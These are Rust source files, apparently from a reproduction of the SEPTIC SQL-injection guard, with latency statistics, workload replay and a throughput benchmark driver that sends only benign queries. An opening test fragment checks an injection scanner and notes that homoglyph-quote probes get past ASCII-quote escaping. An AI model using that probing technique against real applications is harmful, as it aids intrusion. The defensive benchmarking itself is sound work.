            !plain.vulnerable(),
            "escaping stops ASCII quotes: {plain:?}"
        );
        let homoglyph = scan_param(
            &d,
            &base,
            "device",
            &string_probes(&[Encoder::HomoglyphQuote]),
        );
        assert!(homoglyph.vulnerable(), "{homoglyph:?}");
    }

    #[test]
    fn probe_sets_are_nonempty_and_deterministic() {
        let a = numeric_probes(&[Encoder::Plain, Encoder::VersionComment]);
        let b = numeric_probes(&[Encoder::Plain, Encoder::VersionComment]);
        assert_eq!(a.len(), b.len());
        assert!(a.len() >= 12);
        assert!(string_probes(&[Encoder::Plain]).len() >= 6);
    }
}
