//! Latency statistics for the workload experiments.

use std::time::Duration;

/// Aggregated latency statistics over a set of request samples.
///
/// Samples must be **client-observed** latencies. For raw DBMS drivers
/// that means `ExecResult::observed_latency()` (wall time plus simulated
/// `SLEEP`/`BENCHMARK` delay), not `ExecResult::elapsed` — otherwise
/// time-based blind-injection workloads are silently under-reported. The
/// web-tier drivers (`client::replay`) time whole HTTP requests, whose
/// benign recorded workloads contain no timing functions.
#[derive(Debug, Clone, PartialEq)]
pub struct LatencyStats {
    pub samples: usize,
    pub mean: Duration,
    pub p50: Duration,
    pub p95: Duration,
    pub p99: Duration,
    pub min: Duration,
    pub max: Duration,
    pub stddev: Duration,
}

impl LatencyStats {
    /// Computes statistics from raw samples.
    ///
    /// # Panics
    ///
    /// Panics when `samples` is empty — callers must measure something.
    #[must_use]
    pub fn from_samples(samples: &[Duration]) -> Self {
        assert!(!samples.is_empty(), "no latency samples");
        let mut sorted: Vec<Duration> = samples.to_vec();
        sorted.sort_unstable();
        let n = sorted.len();
        let total: Duration = sorted.iter().sum();
        let mean = total / n as u32;
        let mean_s = mean.as_secs_f64();
        let var = sorted
            .iter()
            .map(|d| {
                let diff = d.as_secs_f64() - mean_s;
                diff * diff
            })
            .sum::<f64>()
            / n as f64;
        LatencyStats {
            samples: n,
            mean,
            p50: percentile(&sorted, 50.0),
            p95: percentile(&sorted, 95.0),
            p99: percentile(&sorted, 99.0),
            min: sorted[0],
            max: sorted[n - 1],
            stddev: Duration::from_secs_f64(var.sqrt()),
        }
    }

    /// Relative overhead of `self` versus a baseline mean, in percent
    /// (positive = slower than baseline).
    #[must_use]
    pub fn overhead_vs(&self, baseline: &LatencyStats) -> f64 {
        let base = baseline.mean.as_secs_f64();
        if base == 0.0 {
            return 0.0;
        }
        (self.mean.as_secs_f64() - base) / base * 100.0
    }
}

/// Nearest-rank percentile: the smallest sample such that at least `p`% of
/// samples are ≤ it — i.e. the 1-based rank `⌈p/100 · n⌉`, clamped into
/// range so small sample counts (`n < 100`) can never select out of range.
///
/// The rank is snapped to the nearest integer first: `p/100 · n` computed
/// in floating point can land a hair *above* an exact integer (e.g.
/// `20/100 · 5 = 1.0000000000000002`), and ceiling that raw value would
/// bias the selection one element high.
fn percentile(sorted: &[Duration], p: f64) -> Duration {
    let n = sorted.len();
    assert!(n > 0, "no latency samples");
    if !p.is_finite() || p <= 0.0 {
        return sorted[0];
    }
    if p >= 100.0 {
        return sorted[n - 1];
    }
    let exact = p / 100.0 * n as f64;
    let rounded = exact.round();
    let rank = if (exact - rounded).abs() < 1e-9 * n as f64 {
        rounded as usize
    } else {
        exact.ceil() as usize
    };
    sorted[rank.clamp(1, n) - 1]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ms(v: u64) -> Duration {
        Duration::from_millis(v)
    }

    #[test]
    fn basic_stats() {
        let s = LatencyStats::from_samples(&[ms(10), ms(20), ms(30), ms(40), ms(100)]);
        assert_eq!(s.samples, 5);
        assert_eq!(s.mean, ms(40));
        assert_eq!(s.p50, ms(30));
        assert_eq!(s.min, ms(10));
        assert_eq!(s.max, ms(100));
        assert!(s.stddev > Duration::ZERO);
    }

    #[test]
    fn percentiles_cover_range() {
        let samples: Vec<Duration> = (1..=100).map(ms).collect();
        let s = LatencyStats::from_samples(&samples);
        assert_eq!(s.p50, ms(50));
        assert_eq!(s.p95, ms(95));
        assert_eq!(s.p99, ms(99)); // rank round(0.99 * 99) = 98 → 99ms sample
    }

    #[test]
    fn overhead_computation() {
        let base = LatencyStats::from_samples(&[ms(100); 10]);
        let slower = LatencyStats::from_samples(&[ms(102); 10]);
        let overhead = slower.overhead_vs(&base);
        assert!((overhead - 2.0).abs() < 1e-9, "{overhead}");
        assert!(base.overhead_vs(&slower) < 0.0);
    }

    #[test]
    #[should_panic(expected = "no latency samples")]
    fn empty_samples_panic() {
        let _ = LatencyStats::from_samples(&[]);
    }

    #[test]
    fn single_sample() {
        let s = LatencyStats::from_samples(&[ms(7)]);
        assert_eq!(s.p99, ms(7));
        assert_eq!(s.mean, ms(7));
    }

    #[test]
    fn nearest_rank_at_n_1() {
        // n=1: every percentile is the one sample; nothing indexes out of
        // range.
        let s = LatencyStats::from_samples(&[ms(42)]);
        assert_eq!((s.p50, s.p95, s.p99), (ms(42), ms(42), ms(42)));
        assert_eq!((s.min, s.max), (ms(42), ms(42)));
    }

    #[test]
    fn nearest_rank_at_n_2() {
        // n=2: ⌈0.50·2⌉=1 → first sample; ⌈0.95·2⌉=⌈1.9⌉=2 and
        // ⌈0.99·2⌉=2 → second sample.
        let s = LatencyStats::from_samples(&[ms(10), ms(20)]);
        assert_eq!(s.p50, ms(10));
        assert_eq!(s.p95, ms(20));
        assert_eq!(s.p99, ms(20));
    }

    #[test]
    fn nearest_rank_at_n_19() {
        // n=19: ⌈0.50·19⌉=⌈9.5⌉=10 → 10th sample; ⌈0.95·19⌉=⌈18.05⌉=19
        // and ⌈0.99·19⌉=⌈18.81⌉=19 → the max.
        let samples: Vec<Duration> = (1..=19).map(ms).collect();
        let s = LatencyStats::from_samples(&samples);
        assert_eq!(s.p50, ms(10));
        assert_eq!(s.p95, ms(19));
        assert_eq!(s.p99, ms(19));
    }

    #[test]
    fn nearest_rank_at_n_100() {
        // n=100: the rank lands exactly on p — ⌈0.95·100⌉=95 must select
        // the 95th sample, not drift to the 96th through float noise.
        let samples: Vec<Duration> = (1..=100).map(ms).collect();
        let s = LatencyStats::from_samples(&samples);
        assert_eq!(s.p50, ms(50));
        assert_eq!(s.p95, ms(95));
        assert_eq!(s.p99, ms(99));
    }

    #[test]
    fn exact_integer_ranks_do_not_drift_up() {
        // 20/100 · 5 computes as 1.0000000000000002 in f64; a raw ceil
        // would select the 2nd sample. Nearest-rank says the 1st.
        let samples: Vec<Duration> = (1..=5).map(ms).collect();
        assert_eq!(percentile(&samples, 20.0), ms(1));
        // And the boundaries stay in range whatever p is.
        assert_eq!(percentile(&samples, 0.0), ms(1));
        assert_eq!(percentile(&samples, 100.0), ms(5));
        assert_eq!(percentile(&samples, 250.0), ms(5));
        assert_eq!(percentile(&samples, f64::NAN), ms(1));
    }
}
