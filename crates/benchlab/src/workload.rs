//! Workload recording and replay (the BenchLab model: workloads are
//! "previously recorded and stored by the BenchLab server, i.e., a
//! sequence of requests made to the web applications").

use septic_http::HttpRequest;
use septic_webapp::WebApp;
use serde::{Deserialize, Serialize};

/// A named, replayable request sequence.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Workload {
    pub name: String,
    pub requests: Vec<HttpRequest>,
}

impl Workload {
    /// Records the workload an application ships (its canonical BenchLab
    /// trace).
    #[must_use]
    pub fn record_from_app(app: &dyn WebApp) -> Self {
        Workload {
            name: app.name().to_string(),
            requests: app.workload(),
        }
    }

    /// Number of requests per loop iteration.
    #[must_use]
    pub fn len(&self) -> usize {
        self.requests.len()
    }

    /// True when the workload is empty.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.requests.is_empty()
    }

    /// Serializes to JSON (the "stored by the BenchLab server" part).
    ///
    /// # Errors
    ///
    /// Serialization failures.
    pub fn to_json(&self) -> serde_json::Result<String> {
        serde_json::to_string_pretty(self)
    }

    /// Restores a workload from JSON.
    ///
    /// # Errors
    ///
    /// Deserialization failures.
    pub fn from_json(json: &str) -> serde_json::Result<Self> {
        serde_json::from_str(json)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use septic_webapp::{PhpAddressBook, Refbase, ZeroCms};

    #[test]
    fn records_the_paper_request_counts() {
        assert_eq!(Workload::record_from_app(&PhpAddressBook::new()).len(), 12);
        assert_eq!(Workload::record_from_app(&Refbase::new()).len(), 14);
        assert_eq!(Workload::record_from_app(&ZeroCms::new()).len(), 26);
    }

    #[test]
    fn json_round_trip() {
        let w = Workload::record_from_app(&ZeroCms::new());
        let json = w.to_json().expect("serialize");
        let restored = Workload::from_json(&json).expect("deserialize");
        assert_eq!(w, restored);
    }
}
