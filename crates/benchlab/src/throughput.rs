//! Concurrent throughput driver: queries/sec through the guarded DBMS at
//! 1/2/4/8 session threads for the four detector configurations
//! (NN/YN/NY/YY) — the scaling counterpart of the Figure 5 latency
//! experiment, seeding `BENCH_throughput.json`.
//!
//! # Measurement model
//!
//! The paper's testbed is closed-loop clients on a LAN: between two
//! requests a client spends far longer in its own think/network time than
//! the DBMS spends serving. The driver reproduces that shape with a
//! per-request `client_pad` (a real `thread::sleep`), so concurrency wins
//! come from *overlapping client wait time* — exactly what a
//! session-per-thread front end is for — and the numbers stay meaningful
//! on small machines (the reference runner has a single CPU core; raw
//! CPU-parallel speedup is not measurable there). The pad is recorded in
//! the report metadata so results are comparable across hosts.

use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

use septic::{DetectionConfig, Mode, Septic};
use septic_dbms::{Server, ServerConfig};
use septic_net::{NetClient, NetServerConfig};
use septic_telemetry::{label_value, Histogram};
use serde::{Deserialize, Serialize};

/// Shape of a throughput run.
#[derive(Debug, Clone)]
pub struct ThroughputPlan {
    /// Session-thread counts to sweep (the paper-style ablation uses
    /// 1/2/4/8).
    pub threads: Vec<usize>,
    /// Queries each session issues during measurement.
    pub queries_per_thread: usize,
    /// Unmeasured queries each session issues first (cache/lock warm-up).
    pub warmup_queries: usize,
    /// Closed-loop client pad slept after every request (see module docs).
    pub client_pad: Duration,
    /// Hard cap per (config, thread-count) cell: sessions stop issuing
    /// new queries once the cell has run this long.
    pub max_duration: Duration,
    /// Distinct trained query shapes the sessions rotate through
    /// (exercises the id interner and model-store sharding).
    pub distinct_shapes: usize,
    /// Whether SEPTIC event logging stays on during measurement. Off by
    /// default: the production hot path runs with the register disabled.
    pub event_logging: bool,
    /// Seed mixed into every generated datum, so the exact query text
    /// sequence each session issues is a pure function of the plan — two
    /// runs of the same plan send byte-identical workloads.
    pub seed: u64,
}

impl Default for ThroughputPlan {
    fn default() -> Self {
        ThroughputPlan {
            threads: vec![1, 2, 4, 8],
            queries_per_thread: 400,
            warmup_queries: 40,
            client_pad: Duration::from_micros(600),
            max_duration: Duration::from_secs(10),
            distinct_shapes: 32,
            event_logging: false,
            seed: 0x5EED_7090,
        }
    }
}

impl ThroughputPlan {
    /// A seconds-long smoke shape for CI: two thread counts, few queries.
    /// The duration cap is set far above the expected cell time (~40 ms),
    /// so it never truncates the query count — every run of the smoke
    /// plan completes exactly `threads × queries_per_thread` queries per
    /// cell, deterministically. The cap only backstops a hung deployment.
    #[must_use]
    pub fn smoke() -> Self {
        ThroughputPlan {
            threads: vec![1, 2],
            queries_per_thread: 60,
            warmup_queries: 10,
            max_duration: Duration::from_secs(60),
            ..ThroughputPlan::default()
        }
    }
}

/// One measured cell: a detector configuration at a thread count.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ThroughputRow {
    /// Detector configuration label (`NN`/`YN`/`NY`/`YY`).
    pub config: String,
    /// Session threads driving load.
    pub threads: usize,
    /// Queries completed inside the measurement window.
    pub queries: u64,
    /// Wall-clock length of the window, in microseconds.
    pub elapsed_us: u64,
    /// Queries per second.
    pub qps: f64,
    /// Mean client-observed latency, microseconds. Observed latency is
    /// `ExecResult::observed_latency()` — wall time *plus* simulated
    /// `SLEEP`/`BENCHMARK` delay — so time-based blind-injection workloads
    /// are not under-reported (they would be if this recorded `elapsed`).
    pub mean_us: u64,
    /// Median observed latency (histogram bucket upper bound), µs.
    pub p50_us: u64,
    /// 95th-percentile observed latency, µs.
    pub p95_us: u64,
    /// 99th-percentile observed latency, µs.
    pub p99_us: u64,
}

/// One engine-comparison cell: a standard throughput measurement with
/// both bytecode-VM hot loops (detection comparison and row-expression
/// evaluation) forced to one engine.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct EngineRow {
    /// Evaluation engine: `ast` (interpreted walkers) or `vm` (compiled
    /// bytecode programs).
    pub engine: String,
    /// The measured cell (config is always `YY`).
    pub row: ThroughputRow,
}

/// Per-stage latency percentiles for one detector configuration, scraped
/// from the deployment's SEPTIC metrics registry after all of the
/// configuration's cells have run.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct StageLatencyRow {
    /// Detector configuration label (`NN`/`YN`/`NY`/`YY`).
    pub config: String,
    /// Pipeline stage (`inspect`, `id_gen`, `store_get`, `sqli_detect`,
    /// `stored_scan`, `store_save`).
    pub stage: String,
    /// Spans recorded for the stage across the whole sweep (training,
    /// warm-up and measurement).
    pub count: u64,
    /// Median span, µs (histogram bucket upper bound).
    pub p50_us: u64,
    /// 95th-percentile span, µs.
    pub p95_us: u64,
    /// 99th-percentile span, µs.
    pub p99_us: u64,
}

/// The full sweep, as written to `BENCH_throughput.json`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ThroughputReport {
    /// Closed-loop client pad per request, microseconds (see module docs).
    pub client_pad_us: u64,
    /// Queries each session issued per cell (before the duration cap).
    pub queries_per_thread: u64,
    /// Distinct trained query shapes rotated through.
    pub distinct_shapes: u64,
    /// Workload seed the data payloads derived from.
    pub seed: u64,
    /// CPUs visible to the measuring process.
    pub host_cpus: u64,
    /// One row per (config, thread-count) cell.
    pub rows: Vec<ThroughputRow>,
    /// Per-stage guard latency percentiles, one set per configuration.
    #[serde(default)]
    pub stages: Vec<StageLatencyRow>,
    /// Over-the-wire counterpart of `rows`: the same closed-loop sweep
    /// driven through the framed TCP front end (`septic-net`) instead of
    /// in-process calls, so the report also quantifies the wire tax.
    #[serde(default)]
    pub tcp_rows: Vec<ThroughputRow>,
    /// AST-walker vs bytecode-VM cells: the full YY stack measured with
    /// both hot loops forced to each engine, over a row-heavy table with
    /// a zero client pad (so serving cost, not think time, is compared).
    #[serde(default)]
    pub engine_rows: Vec<EngineRow>,
    /// JOIN-bearing workload cells: the full YY stack sweeping a trained
    /// two-table JOIN shape at every thread count, so the report covers a
    /// query family the expression VM deliberately routes through its
    /// negative cache to the interpreted planner.
    #[serde(default)]
    pub join_rows: Vec<ThroughputRow>,
    /// Event-loop counterpart of `tcp_rows`: the same closed-loop TCP
    /// sweep served by the epoll front end instead of the blocking
    /// worker pool, so the two concurrency models are compared on
    /// byte-identical workloads.
    #[serde(default)]
    pub tcp_event_rows: Vec<ThroughputRow>,
    /// Open-loop latency-vs-offered-load curves for both front ends:
    /// fixed arrival schedules with coordinated-omission-aware latency
    /// (measured from each request's *scheduled* time). See
    /// [`crate::openloop`].
    #[serde(default)]
    pub open_loop_rows: Vec<crate::openloop::OpenLoopRow>,
    /// Idle-connection memory rows: RSS delta across parking many idle
    /// sockets against the event-loop front end at a fixed thread count.
    #[serde(default)]
    pub idle_rows: Vec<crate::openloop::IdleConnRow>,
}

impl ThroughputReport {
    /// The row for a configuration at a thread count.
    #[must_use]
    pub fn row(&self, config: &str, threads: usize) -> Option<&ThroughputRow> {
        self.rows
            .iter()
            .find(|r| r.config == config && r.threads == threads)
    }

    /// The over-the-wire row for a configuration at a client count.
    #[must_use]
    pub fn tcp_row(&self, config: &str, threads: usize) -> Option<&ThroughputRow> {
        self.tcp_rows
            .iter()
            .find(|r| r.config == config && r.threads == threads)
    }

    /// The JOIN-workload row at a thread count (config is always `YY`).
    #[must_use]
    pub fn join_row(&self, threads: usize) -> Option<&ThroughputRow> {
        self.join_rows.iter().find(|r| r.threads == threads)
    }

    /// The event-loop over-the-wire row for a configuration at a client
    /// count.
    #[must_use]
    pub fn tcp_event_row(&self, config: &str, threads: usize) -> Option<&ThroughputRow> {
        self.tcp_event_rows
            .iter()
            .find(|r| r.config == config && r.threads == threads)
    }

    /// Throughput ratio between two thread counts of one configuration
    /// (e.g. the 8-vs-1 scaling factor).
    #[must_use]
    pub fn speedup(&self, config: &str, threads: usize, baseline_threads: usize) -> Option<f64> {
        let hi = self.row(config, threads)?.qps;
        let lo = self.row(config, baseline_threads)?.qps;
        (lo > 0.0).then_some(hi / lo)
    }

    /// Serializes the report to pretty JSON.
    ///
    /// # Errors
    ///
    /// Propagates serializer errors.
    pub fn to_json(&self) -> serde_json::Result<String> {
        serde_json::to_string_pretty(self)
    }
}

/// The benign query for a trained shape. Each shape is a distinct program
/// point (external `/* qid:… */` id), so the sweep exercises the interner
/// and spreads lookups across the model-store shards.
pub(crate) fn shape_query(shape: usize, datum: u64) -> String {
    format!("/* qid:tp-shape-{shape} */ SELECT note FROM tickets WHERE note = 'v{datum}'")
}

/// The benign JOIN-bearing query for a trained shape: a two-table inner
/// join filtered on the joined side, so every request walks the planner's
/// nested-loop join stage (and, under the expression VM, its negative
/// cache) instead of the single-table fast path.
fn join_shape_query(shape: usize, datum: u64) -> String {
    format!(
        "/* qid:tp-join-{shape} */ SELECT t.note, o.region FROM tickets t \
         JOIN owners o ON t.reservID = o.name WHERE o.region = 'v{datum}'"
    )
}

/// The datum a session sends on its `i`-th query: a pure function of
/// (seed, session, i), so the workload byte stream is reproducible.
pub(crate) fn session_datum(seed: u64, session: usize, i: usize) -> u64 {
    (seed ^ (session as u64).wrapping_mul(0x9E37_79B9)).wrapping_add(i as u64) % 1_000_003
}

/// Builds a trained, prevention-mode deployment for one configuration.
pub(crate) fn build_deployment(
    config: DetectionConfig,
    plan: &ThroughputPlan,
) -> (Arc<Server>, Arc<Septic>) {
    let server = Server::with_config(ServerConfig {
        allow_multi_statements: true,
        // The general log is a global mutex + allocation per query; the
        // throughput path runs with it off (drops are counted, not kept).
        general_log_capacity: 0,
    });
    let conn = server.connect();
    conn.execute("CREATE TABLE tickets (reservID VARCHAR(16), note VARCHAR(64))")
        .expect("create");
    conn.execute("INSERT INTO tickets (reservID, note) VALUES ('ID34FG', 'v0')")
        .expect("insert");

    let septic = Arc::new(Septic::with_config(config));
    septic.set_event_logging(plan.event_logging);
    server.install_guard(septic.clone());
    septic.set_mode(Mode::Training);
    for shape in 0..plan.distinct_shapes.max(1) {
        conn.execute(&shape_query(shape, 0)).expect("train");
    }
    septic.set_mode(Mode::PREVENTION);
    (server, septic)
}

/// Measures one (config, thread-count) cell: `threads` sessions each run
/// the warm-up then `queries_per_thread` benign queries built by `query`
/// against trained shapes, sleeping `client_pad` after every request.
/// Returns the row.
fn measure_cell(
    server: &Arc<Server>,
    config: DetectionConfig,
    threads: usize,
    plan: &ThroughputPlan,
    query: fn(usize, u64) -> String,
) -> ThroughputRow {
    let shapes = plan.distinct_shapes.max(1);
    // Shared client-observed latency histogram: every measured query
    // records `ExecResult::observed_latency()` (wall + simulated
    // SLEEP/BENCHMARK delay), not just wall time — see `ThroughputRow`.
    let latency = Arc::new(Histogram::new());
    let started = Instant::now();
    let handles: Vec<_> = (0..threads)
        .map(|t| {
            let conn = server.connect();
            let plan = plan.clone();
            let latency = Arc::clone(&latency);
            thread::spawn(move || {
                for i in 0..plan.warmup_queries {
                    let q = query((t + i) % shapes, session_datum(plan.seed, t, i));
                    conn.execute(&q).expect("warmup query");
                }
                let cell_started = Instant::now();
                let mut done: u64 = 0;
                for i in 0..plan.queries_per_thread {
                    if cell_started.elapsed() > plan.max_duration {
                        break;
                    }
                    let q = query((t + i) % shapes, session_datum(plan.seed, t, i));
                    let res = conn.execute(&q).expect("benign query must pass");
                    latency.record(res.observed_latency());
                    done += 1;
                    if !plan.client_pad.is_zero() {
                        thread::sleep(plan.client_pad);
                    }
                }
                done
            })
        })
        .collect();
    let queries: u64 = handles
        .into_iter()
        .map(|h| h.join().expect("session"))
        .sum();
    let elapsed = started.elapsed();
    let observed = latency.snapshot("observed_latency");
    ThroughputRow {
        config: config.label().to_string(),
        threads,
        queries,
        elapsed_us: u64::try_from(elapsed.as_micros()).unwrap_or(u64::MAX),
        qps: queries as f64 / elapsed.as_secs_f64().max(f64::EPSILON),
        mean_us: observed.mean_us() as u64,
        p50_us: observed.percentile_us(50.0),
        p95_us: observed.percentile_us(95.0),
        p99_us: observed.percentile_us(99.0),
    }
}

/// Scrapes the per-stage span histograms out of a deployment's SEPTIC
/// metrics registry into report rows.
fn stage_rows(config: DetectionConfig, septic: &Septic) -> Vec<StageLatencyRow> {
    septic
        .metrics_snapshot()
        .histograms
        .iter()
        .filter_map(|h| {
            let stage = label_value(&h.name, "stage")?;
            Some(StageLatencyRow {
                config: config.label().to_string(),
                stage: stage.to_string(),
                count: h.count,
                p50_us: h.percentile_us(50.0),
                p95_us: h.percentile_us(95.0),
                p99_us: h.percentile_us(99.0),
            })
        })
        .collect()
}

/// Runs the full sweep: every [`DetectionConfig`] at every thread count of
/// the plan, one fresh trained deployment per configuration.
#[must_use]
pub fn run_throughput(plan: &ThroughputPlan) -> ThroughputReport {
    let mut rows = Vec::with_capacity(DetectionConfig::all().len() * plan.threads.len());
    let mut stages = Vec::new();
    for config in DetectionConfig::all() {
        let (server, septic) = build_deployment(config, plan);
        for &threads in &plan.threads {
            rows.push(measure_cell(&server, config, threads, plan, shape_query));
        }
        stages.extend(stage_rows(config, &septic));
    }
    ThroughputReport {
        client_pad_us: u64::try_from(plan.client_pad.as_micros()).unwrap_or(u64::MAX),
        queries_per_thread: plan.queries_per_thread as u64,
        distinct_shapes: plan.distinct_shapes as u64,
        seed: plan.seed,
        host_cpus: thread::available_parallelism().map_or(1, |n| n.get() as u64),
        rows,
        stages,
        tcp_rows: Vec::new(),
        engine_rows: Vec::new(),
        join_rows: Vec::new(),
        tcp_event_rows: Vec::new(),
        open_loop_rows: Vec::new(),
        idle_rows: Vec::new(),
    }
}

/// Builds the trained YY deployment for the JOIN workload: the standard
/// tickets table plus an `owners` table keyed on `reservID`, with the
/// JOIN shapes trained so the sweep's benign queries pass PREVENTION.
fn build_join_deployment(plan: &ThroughputPlan) -> (Arc<Server>, Arc<Septic>) {
    let server = Server::with_config(ServerConfig {
        allow_multi_statements: true,
        general_log_capacity: 0,
    });
    let conn = server.connect();
    conn.execute("CREATE TABLE tickets (reservID VARCHAR(16), note VARCHAR(64))")
        .expect("create tickets");
    conn.execute("CREATE TABLE owners (name VARCHAR(16), region VARCHAR(64))")
        .expect("create owners");
    conn.execute("INSERT INTO tickets (reservID, note) VALUES ('ID34FG', 'v0')")
        .expect("insert tickets");
    conn.execute("INSERT INTO owners (name, region) VALUES ('ID34FG', 'v0')")
        .expect("insert owners");

    let septic = Arc::new(Septic::with_config(DetectionConfig::YY));
    septic.set_event_logging(plan.event_logging);
    server.install_guard(septic.clone());
    septic.set_mode(Mode::Training);
    for shape in 0..plan.distinct_shapes.max(1) {
        conn.execute(&join_shape_query(shape, 0)).expect("train");
    }
    septic.set_mode(Mode::PREVENTION);
    (server, septic)
}

/// Runs the JOIN-bearing workload: the full YY stack at every thread
/// count of the plan, each session sweeping trained two-table JOIN shapes
/// instead of the single-table fast path. This is the throughput-side
/// counterpart of the planner's join stage: the guard models and checks
/// the joined item stack, and under the expression VM the shape is served
/// from the negative cache by the interpreted planner.
#[must_use]
pub fn run_join_workload(plan: &ThroughputPlan) -> Vec<ThroughputRow> {
    let (server, _septic) = build_join_deployment(plan);
    plan.threads
        .iter()
        .map(|&threads| {
            measure_cell(
                &server,
                DetectionConfig::YY,
                threads,
                plan,
                join_shape_query,
            )
        })
        .collect()
}

/// Rows seeded into the engine-comparison table: enough that per-row
/// WHERE evaluation dominates each query, so the comparison measures the
/// evaluation engines rather than fixed pipeline overhead (the standard
/// sweep's one-row table would measure the latter).
const ENGINE_TABLE_ROWS: usize = 512;

/// Builds the trained YY deployment for one engine: same schema and
/// training as [`build_deployment`], but with a row-heavy table and both
/// VM hot loops (detection comparison, row-expression evaluation) forced
/// to `vm`.
fn build_engine_deployment(vm: bool, plan: &ThroughputPlan) -> (Arc<Server>, Arc<Septic>) {
    let server = Server::with_config(ServerConfig {
        allow_multi_statements: true,
        general_log_capacity: 0,
    });
    server.set_expr_vm(vm);
    let conn = server.connect();
    conn.execute("CREATE TABLE tickets (reservID VARCHAR(16), note VARCHAR(64))")
        .expect("create");
    // Seeded notes live above the workload's datum range (see
    // `session_datum`), so every measured query scans all rows and
    // matches none — a pure per-row evaluation workload.
    let values: Vec<String> = (0..ENGINE_TABLE_ROWS)
        .map(|i| format!("('R{i}', 'v{}')", 2_000_003 + i))
        .collect();
    conn.execute(&format!(
        "INSERT INTO tickets (reservID, note) VALUES {}",
        values.join(", ")
    ))
    .expect("insert");

    let septic = Arc::new(Septic::with_config(DetectionConfig::YY));
    septic.set_use_vm(vm);
    septic.set_event_logging(plan.event_logging);
    server.install_guard(septic.clone());
    septic.set_mode(Mode::Training);
    for shape in 0..plan.distinct_shapes.max(1) {
        conn.execute(&shape_query(shape, 0)).expect("train");
    }
    septic.set_mode(Mode::PREVENTION);
    (server, septic)
}

/// Runs the AST-vs-VM engine comparison: the full YY stack measured with
/// both hot loops forced to the interpreted walkers (`ast`), then to the
/// compiled bytecode programs (`vm`), at every thread count of the plan.
/// Cells run with a **zero client pad** — think time would hide the
/// engine difference — over the row-heavy engine table.
#[must_use]
pub fn run_engine_comparison(plan: &ThroughputPlan) -> Vec<EngineRow> {
    let unpadded = ThroughputPlan {
        client_pad: Duration::ZERO,
        ..plan.clone()
    };
    let mut rows = Vec::with_capacity(2 * unpadded.threads.len());
    for vm in [false, true] {
        let (server, _septic) = build_engine_deployment(vm, &unpadded);
        for &threads in &unpadded.threads {
            rows.push(EngineRow {
                engine: if vm { "vm" } else { "ast" }.to_string(),
                row: measure_cell(
                    &server,
                    DetectionConfig::YY,
                    threads,
                    &unpadded,
                    shape_query,
                ),
            });
        }
    }
    rows
}

/// Measures one (config, client-count) cell over the wire: `threads`
/// closed-loop [`NetClient`]s each run the warm-up then
/// `queries_per_thread` benign queries against the framed TCP front end,
/// sleeping `client_pad` after every request. Latency is the wire-level
/// [`septic_net::WireResult::observed_us`] — the same wall-plus-simulated
/// quantity the in-process sweep records, so the two row sets are
/// directly comparable.
fn measure_cell_tcp(
    addr: std::net::SocketAddr,
    config: DetectionConfig,
    threads: usize,
    plan: &ThroughputPlan,
) -> ThroughputRow {
    let shapes = plan.distinct_shapes.max(1);
    let latency = Arc::new(Histogram::new());
    let started = Instant::now();
    let handles: Vec<_> = (0..threads)
        .map(|t| {
            let plan = plan.clone();
            let latency = Arc::clone(&latency);
            thread::spawn(move || {
                let mut client = NetClient::connect(addr).expect("tcp connect");
                for i in 0..plan.warmup_queries {
                    let q = shape_query((t + i) % shapes, session_datum(plan.seed, t, i));
                    client.query(&q).expect("warmup query");
                }
                let cell_started = Instant::now();
                let mut done: u64 = 0;
                for i in 0..plan.queries_per_thread {
                    if cell_started.elapsed() > plan.max_duration {
                        break;
                    }
                    let q = shape_query((t + i) % shapes, session_datum(plan.seed, t, i));
                    let res = client.query(&q).expect("benign query must pass");
                    latency.record_us(res.observed_us());
                    done += 1;
                    if !plan.client_pad.is_zero() {
                        thread::sleep(plan.client_pad);
                    }
                }
                done
            })
        })
        .collect();
    let queries: u64 = handles
        .into_iter()
        .map(|h| h.join().expect("tcp session"))
        .sum();
    let elapsed = started.elapsed();
    let observed = latency.snapshot("observed_latency");
    ThroughputRow {
        config: config.label().to_string(),
        threads,
        queries,
        elapsed_us: u64::try_from(elapsed.as_micros()).unwrap_or(u64::MAX),
        qps: queries as f64 / elapsed.as_secs_f64().max(f64::EPSILON),
        mean_us: observed.mean_us() as u64,
        p50_us: observed.percentile_us(50.0),
        p95_us: observed.percentile_us(95.0),
        p99_us: observed.percentile_us(99.0),
    }
}

/// Runs the sweep over the wire against the blocking front end: every
/// [`DetectionConfig`] at every client count of the plan, one fresh
/// trained deployment behind one fresh TCP front end per configuration.
#[must_use]
pub fn run_throughput_tcp(plan: &ThroughputPlan) -> Vec<ThroughputRow> {
    run_throughput_tcp_front_end(plan, septic_net::FrontEndKind::Blocking)
}

/// Runs the over-the-wire sweep against the chosen front end. The worker
/// pool is sized to the largest client count so admission control never
/// sheds the closed-loop clients — the sweep measures serving cost, not
/// queueing policy. Both front ends execute on identically sized worker
/// pools, so a throughput difference is the concurrency model's, not a
/// sizing artifact.
#[must_use]
pub fn run_throughput_tcp_front_end(
    plan: &ThroughputPlan,
    kind: septic_net::FrontEndKind,
) -> Vec<ThroughputRow> {
    let max_clients = plan.threads.iter().copied().max().unwrap_or(1);
    let mut rows = Vec::with_capacity(DetectionConfig::all().len() * plan.threads.len());
    for config in DetectionConfig::all() {
        let (server, _septic) = build_deployment(config, plan);
        let handle = septic_net::serve_front_end(
            kind,
            server,
            ("127.0.0.1", 0),
            NetServerConfig {
                workers: max_clients,
                accept_queue: max_clients,
                ..NetServerConfig::default()
            },
        )
        .expect("bind tcp front end");
        let addr = handle.addr();
        for &threads in &plan.threads {
            rows.push(measure_cell_tcp(addr, config, threads, plan));
        }
        handle.shutdown();
    }
    rows
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tiny_plan() -> ThroughputPlan {
        ThroughputPlan {
            threads: vec![1, 2],
            queries_per_thread: 8,
            warmup_queries: 2,
            // No pad and an effectively-unbounded cap: the duration guard
            // can never truncate the count, so the exact-count assertions
            // below hold on arbitrarily slow or loaded hosts.
            client_pad: Duration::ZERO,
            max_duration: Duration::from_secs(3600),
            distinct_shapes: 4,
            event_logging: false,
            seed: 42,
        }
    }

    #[test]
    fn sweep_covers_every_cell() {
